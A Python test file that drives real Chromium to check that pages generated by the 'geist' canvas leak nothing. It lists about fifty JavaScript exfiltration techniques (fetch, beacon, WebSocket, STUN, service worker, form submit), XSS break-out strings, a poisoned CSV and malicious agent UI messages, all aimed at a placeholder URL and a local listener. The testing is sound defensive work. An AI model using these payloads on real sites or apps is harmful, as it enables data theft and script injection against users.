"""What a hostile model, file or agent writes into a page must reach nothing. Real Chromium, the page
as it is shipped, nothing intercepted: a server and a UDP socket listen for whatever gets out."""

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from geist.canvas.a2ui import shaped
from geist.canvas.ask import judged
from geist.canvas.browser import chromium
from geist.canvas.components.app import PREAMBLE
from geist.canvas.data import Data
from geist.canvas.language import Call, Line, Value, written
from geist.canvas.page import document, page
from geist.canvas.view import CATALOG

WAIT = 250  # milliseconds: what gets out on this machine gets out at once


@dataclass
class Net:
    """All that arrived."""

    web: int
    udp: int
    folder: Path
    heard: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.web}"


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    class Hear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.heard.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as udp:
        udp.bind(("127.0.0.1", 0))
        folder = tmp_path_factory.mktemp("pages")
        found = Net(server.server_port, udp.getsockname()[1], folder)

        def listen() -> None:
            while True:
                try:
                    udp.recvfrom(2000)
                except OSError:
                    return
                found.heard.append("udp")

        threading.Thread(target=listen, daemon=True).start()
        yield found
    server.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(
            executable_path=chromium(), args=["--no-sandbox", "--disable-gpu"]
        )
        yield started
        started.close()


# each runs inside of an App, with its script allowed: the worst that a model can write
SCRIPTS = {
    "fetch": "fetch('URL/x')",
    "fetch without cors": "fetch('URL/x', {mode: 'no-cors', method: 'POST', body: 'secret'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL/x'); x.send()",
    "beacon": "navigator.sendBeacon('URL/x', 'secret')",
    "websocket": "new WebSocket('URL/x'.replace('http', 'ws'))",
    "event source": "new EventSource('URL/x')",
    "image": "new Image().src = 'URL/x'",
    "written image": "document.write('<img src=URL/x>')",
    "srcset": "document.body.innerHTML += '<img srcset=\"URL/x 1x\">'",
    "style": "document.body.style.background = 'url(URL/x)'",
    "sheet": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'URL/x'}))",
    "import of a sheet": "document.body.innerHTML += '<style>@import url(URL/x);</style>'",
    "font": "new FontFace('a', 'url(URL/x)').load()",
    "cursor": "document.body.innerHTML += '<style>* { cursor: url(URL/x), auto; list-style: image-set(url(URL/y) 1x) }</style>'",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'URL/x'}))",
    "module": "import('URL/x')",
    "preload": "for (const rel of ['preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender']) document.head.append(Object.assign(document.createElement('link'), {rel, href: 'URL/x', as: 'script'}))",
    "speculation": "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: ['URL/x']}]})}))",
    "frame": "document.body.innerHTML += '<iframe src=URL/x></iframe>'",
    "frame of a frame": "document.body.innerHTML += '<iframe srcdoc=\"<img src=URL/x><meta http-equiv=refresh content=0;url=URL/y>\"></iframe>'",
    "object": "document.body.innerHTML += '<object data=URL/x></object><embed src=URL/y>'",
    "media": "document.body.innerHTML += '<video src=URL/x autoplay></video><audio src=URL/y autoplay></audio>'",
    "svg": "document.body.innerHTML += '<svg><image href=URL/x /><use href=\"URL/y#a\"/></svg>'",
    "location": "location.href = 'URL/x'",
    "replaced location": "location.replace('URL/x')",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=URL/x\">'",
    "top": "top.location = 'URL/x'",
    "parent": "parent.location.href = 'URL/x'",
    "window": "window.open('URL/x')",
    "clicked window": "const a = document.createElement('a'); a.href = 'URL/x'; a.target = '_blank'; document.body.append(a); a.click()",
    "clicked top": "const a = document.createElement('a'); a.href = 'URL/x'; a.target = '_top'; document.body.append(a); a.click()",
    "ping": "const a = document.createElement('a'); a.href = '#'; a.ping = 'URL/x'; document.body.append(a); a.click()",
    "download": "const a = document.createElement('a'); a.href = 'URL/x'; a.download = 'x'; document.body.append(a); a.click()",
    "form": "document.body.innerHTML += '<form action=URL/x method=post><input name=a value=b></form>'; document.forms[0].submit()",
    "form elsewhere": "document.body.innerHTML += '<form action=URL/x target=_top><input name=a><button>b</button></form>'; document.forms[0].requestSubmit()",
    "base": "document.head.innerHTML += '<base href=URL/>'; new Image().src = 'x.png'",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"URL/x\")'])))".replace("URL.create", "window.URL.create"),
    "service worker": "navigator.serviceWorker.register('URL/x')",
    "stun": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o))",
    "stun of a new frame": "const f = document.createElement('iframe'); document.body.append(f); const R = f.contentWindow.RTCPeerConnection; const p = new R({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o))",
    "transport": "new WebTransport('URL/x'.replace('http', 'https'))",
    "dialog": "alert(1); confirm(1); prompt(1); print()",
    "host's page": "parent.document.title = 'taken'",
    "storage": "localStorage.setItem('a', 'b'); fetch('URL/' + localStorage.getItem('a'))",
    "eval": "eval('fetch(\"URL/x\")'); new Function('fetch(\"URL/x\")')(); setTimeout('fetch(\"URL/x\")')",
    "script with a known hash": "for (const hash of document.querySelector('meta').content.match(/sha256-[^']+/g)) { const s = document.createElement('script'); s.integrity = hash; s.src = 'URL/x'; document.head.append(s) }",
    "preload with a known hash": "for (const hash of document.querySelector('meta').content.match(/sha256-[^']+/g)) for (const rel of ['preload', 'modulepreload']) document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', integrity: hash, href: 'URL/x'}))",
    "itself in a frame": "if (self.RTCPeerConnection) { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); p.createDataChannel('a'); p.createOffer().then(o => p.setLocalDescription(o)) } else { const f = document.createElement('iframe'); f.srcdoc = '<script>' + document.currentScript.textContent + '</' + 'script>'; document.body.append(f) }",
    "payment and files": "navigator.credentials && navigator.credentials.get({password: true}); window.showOpenFilePicker && showOpenFilePicker()",
}  # fmt: skip


# these leave an error page where the app was
LEAVE = ("location", "download", "replaced location", "refresh", "form", "written image")


@pytest.mark.parametrize("name", SCRIPTS)
def test_an_app_reaches_nothing(name: str, browser: Any, net: Net) -> None:
    code = SCRIPTS[name].replace("URL/", f"{net.url}/").replace("'URL", f"'{net.url}")
    code = code.replace("UDP", str(net.udp))
    app = f"<p id=here>an app</p><script>document.getElementById('here').dataset.ran = 1;</script><script>{code}</script>"
    html = _page([Line(Call("App", (app,), (("title", "t"),)))])
    _opened(html, browser, net, ran=name not in LEAVE)


@pytest.mark.parametrize("name", ["fetch", "image", "beacon", "style", "location", "stun", "form"])
def test_without_the_policy_they_get_out(name: str, browser: Any, net: Net) -> None:
    """The attacks are real: what stops them is what is shipped."""
    code = SCRIPTS[name].replace("'URL", f"'{net.url}").replace("(URL", f"({net.url}")
    code = code.replace("=URL", f"={net.url}").replace("UDP", str(net.udp))
    html = _page([Line(Call("App", (f"<p>a</p><script>{code}</script>",), (("title", "t"),)))])
    bare = re.sub(r"default-src 'none'.*?frame-src 'none'", "", html).replace(PREAMBLE, "")
    bare = bare.replace("allow-scripts", "allow-scripts allow-forms")
    with pytest.raises(AssertionError):
        _opened(bare, browser, net)
    assert net.heard


# what stands in words, figures and names: it is text there, or a named error
WORDS: dict[str, Call] = {
    "text": Call("Text", ("<img src=URL/x onerror=\"fetch('URL/y')\"><script>fetch('URL/z')</script>",)),
    "title": Call("Math", ("x",), (("title", "</title></script><script>fetch('URL/x')</script><img src=URL/y>"),)),
    "formula": Call("Math", (r"\href{URL/x}{a} \includegraphics{URL/y} \style{background:url(URL/z)}{b}",)),
    "code": Call("Code", ("</code><img src=URL/x>",), (("language", "html"),)),
    "diff": Call("Diff", ("<img src=URL/x>", "<img src=URL/y>")),
    "quiz": Call("Quiz", ("<img src=URL/x>", ("<img src=URL/y>", "b")), (("answer", 1),)),
    "board": Call("Whiteboard", (Call("box", ("a", "<img src=URL/x>")),)),
    "diagram": Call("Diagram", ("flowchart LR; a[\"<img src='URL/x' onerror=fetch('URL/y')>\"] --> b[b]",)),
    "diagram's style": Call("Diagram", ("flowchart LR; a --> b; classDef x fill:url(URL/x); style a background:url(URL/y)",)),
    "picture": Call("Figure", ("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><script>fetch('URL/x')</script><image href='URL/y' width='9' height='9'/><style>@import url(URL/z);</style><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='URL/w'/></foreignObject></svg>",), (("alt", "a"),)),
    "handlers of an app": Call("App", ("<body onload=\"location='URL/x'\"><svg onload=\"fetch('URL/y')\"></svg>",), (("title", "t"),)),
    "refresh of an app": Call("App", ("<meta http-equiv=refresh content='0;url=URL/x'><p>a</p>",), (("title", "t"),)),
    "policy of an app": Call("App", ("<meta http-equiv=Content-Security-Policy content='default-src *'><style>body{background:url(URL/x)}</style><p>a</p>",), (("title", "t"),)),
    "end of the frame": Call("App", ("<p>a</p></iframe></script><script>parent.fetch('URL/x')</script>\"><img src=\"URL/y",), (("title", "'\"><img src=URL/z>"),)),
}  # fmt: skip


@pytest.mark.parametrize("name", WORDS)
def test_words_reach_nothing(name: str, browser: Any, net: Net) -> None:
    _opened(_page([Line(_filled(WORDS[name], net))]), browser, net)


def test_a_file_reaches_nothing(browser: Any, net: Net, tmp_path: Path) -> None:
    bad = f"<img src={net.url}/x onerror=fetch('{net.url}/y')>"
    (tmp_path / "bad.csv").write_text(f'name,lat,lon,day,"{bad}"\n' + "".join(
        f'"{bad}{n}",{n},{n},2026-01-0{n},{n}\n' for n in (1, 2, 3)))  # fmt: skip
    lines = f"""p = Picker(bad, name)
        Chart(bar, bad, x=name, y=sum(`{bad}`), by=p, title="{bad}")
        Chart(line, bad, x=day, y=lat, color=name)
        Table(bad)
        Map(bad, lat=lat, lon=lon, label=name, color=name)
        Timeline(bad, start=day, label=name, color=name)
        Diagram(bad, from=name, to=day, label=name)
        Text("{{max(bad.name)}}")"""
    with Data([tmp_path / "bad.csv"]) as data:
        shown, wrong = judged(lines, data, bad)
        assert not wrong, wrong
        html = page(shown, bad, bad)
    _opened(html, browser, net)


def test_messages_of_another_agent_reach_nothing(browser: Any, net: Net) -> None:
    url, basic = f"{net.url}/x", "https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json"
    parts: list[dict[str, Any]] = [
        {"id": "root", "component": "Column", "children": ["i", "v", "a", "t", "b", "k"]},
        {"id": "i", "component": "Image", "url": url},
        {"id": "v", "component": "Video", "url": url},
        {"id": "a", "component": "AudioPlayer", "url": url},
        {"id": "t", "component": "Text", "text": f"![a]({url}) <img src={url}> [b](javascript:fetch('{url}'))"},
        {"id": "k", "component": "Icon", "name": {"path": url}},
        {"id": "l", "component": "Text", "text": "open"},
        {"id": "b", "component": "Button", "child": "l", "action": {"functionCall": {
            "call": "openUrl", "args": {"url": f"javascript:fetch('{url}')"}}}},
    ]  # fmt: skip
    for catalog in (basic, CATALOG):
        messages, _ = shaped([
            {"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": catalog}},
            {"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": parts}},
            {"version": "v0.9", "updateDataModel": {"surfaceId": "s", "path": "/__proto__/x", "value": 1}},
        ])  # fmt: skip
        _opened(document(messages, "t"), browser, net, click="button")
    # a view of geist's own catalog that another agent wrote, with what geist itself makes safe
    messages = [
        {"version": "v0.9", "createSurface": {"surfaceId": "s", "catalogId": CATALOG}},
        {"version": "v0.9", "updateComponents": {"surfaceId": "s", "components": [
            {"id": "root", "component": "Column", "children": ["f", "g", "h"]},
            {"id": "f", "component": "Figure", "image": url, "alt": "a"},
            {"id": "g", "component": "App", "title": "t", "srcdoc": f"<script>fetch('{url}')</script><img src={url}>"},
            {"id": "h", "component": "Chart", "rows": [{"a": 1}], "encode": {}, "vega": {
                "data": [{"name": "rows"}, {"name": "x", "url": url}], "marks": [
                    {"type": "image", "encode": {"enter": {"url": {"value": url}, "href": {"value": url}}}}]}}]}},
    ]  # fmt: skip
    _opened(document(shaped(messages)[0], "t"), browser, net)


def _filled(value: Value, net: Net) -> Any:
    if isinstance(value, str):
        return value.replace("URL", net.url)
    if isinstance(value, Call):
        return Call(value.name, tuple(_filled(v, net) for v in value.given),
                    tuple((n, _filled(v, net)) for n, v in value.named))  # fmt: skip
    return tuple(_filled(v, net) for v in value) if isinstance(value, tuple) else value


def _page(lines: list[Line]) -> str:
    with Data([]) as data:
        shown, _ = judged(written(lines), data, "1")
        return page(shown, "t")


def _opened(html: str, browser: Any, net: Net, *, ran: bool = False, click: str = "") -> None:
    net.heard.clear()
    context = browser.new_context(accept_downloads=True)
    told = list[str]()
    try:
        opened = context.new_page()
        opened.on("dialog", lambda d: (told.append(f"dialog {d.message}"), d.dismiss()))
        opened.on("download", lambda d: told.append(f"download {d.url}"))
        # a file, as who was sent it opens it
        file = net.folder / "page.html"
        file.write_text(html, encoding="utf-8")
        opened.goto(file.as_uri())
        if click:
            for one in opened.locator(click).all():
                one.click(timeout=1000)
        opened.wait_for_timeout(WAIT)
        # else a blank page would pass
        assert opened.evaluate("document.documentElement.dataset.ready") == "true"
        assert opened.locator("a2ui-surface").count() == 1
        assert opened.url == file.as_uri() and opened.title() != "taken"
        assert len(context.pages) == 1, [p.url for p in context.pages]
        if ran:
            marks = [f.evaluate("document.getElementById('here')?.dataset.ran ?? ''")
                     for f in opened.frames[1:] if f.url == "about:srcdoc"]  # fmt: skip
            assert "1" in marks  # it ran, and got nowhere
    finally:
        context.close()
    assert not net.heard and not told
